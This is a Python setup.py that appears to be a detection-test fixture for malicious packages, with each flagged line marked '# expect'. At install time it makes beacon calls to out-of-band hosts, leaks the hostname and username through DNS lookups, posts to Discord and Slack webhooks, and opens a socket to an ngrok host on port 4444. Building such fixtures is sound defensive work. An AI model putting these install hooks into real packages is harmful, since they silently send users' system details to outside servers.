# file: setup.py
import base64
import os
import socket
import urllib.request
import requests
from setuptools import setup

requests.get("https://abc.oast.fun/install")  # expect
request = urllib.request.Request("https://webhook.site/0", data=b"x")
urllib.request.urlopen(request)  # expect
name = socket.gethostname().encode().hex()
socket.gethostbyname(name + ".d.collect.invalid")  # expect
os.system("nslookup $(whoami).abc.oastify.com")  # expect
setup(name="sample")

requests.get("https://iplogger.com/2abc")  # expect
urllib.request.urlopen("https://discord.com/api/webhooks/1000000000000000/abcdefghijklmnopqrstuvwxyz", data=b"new")  # expect

exec("import requests\nrequests.get('https://abc.oast.fun/inside')")  # expect
urllib.request.urlopen("https://hooks.slack.com/services/T00000000/B00000000/aaaaaaaaaaaaaaaaaaaaaaaa", data=b"new")  # expect
requests.get("https://cdn.discordapp.com/attachments/1000000000000000/1000000000000000/list.txt")  # expect

s = socket.socket()
s.connect(("abc.ngrok.io", 4444))  # expect
s.send(b"new")
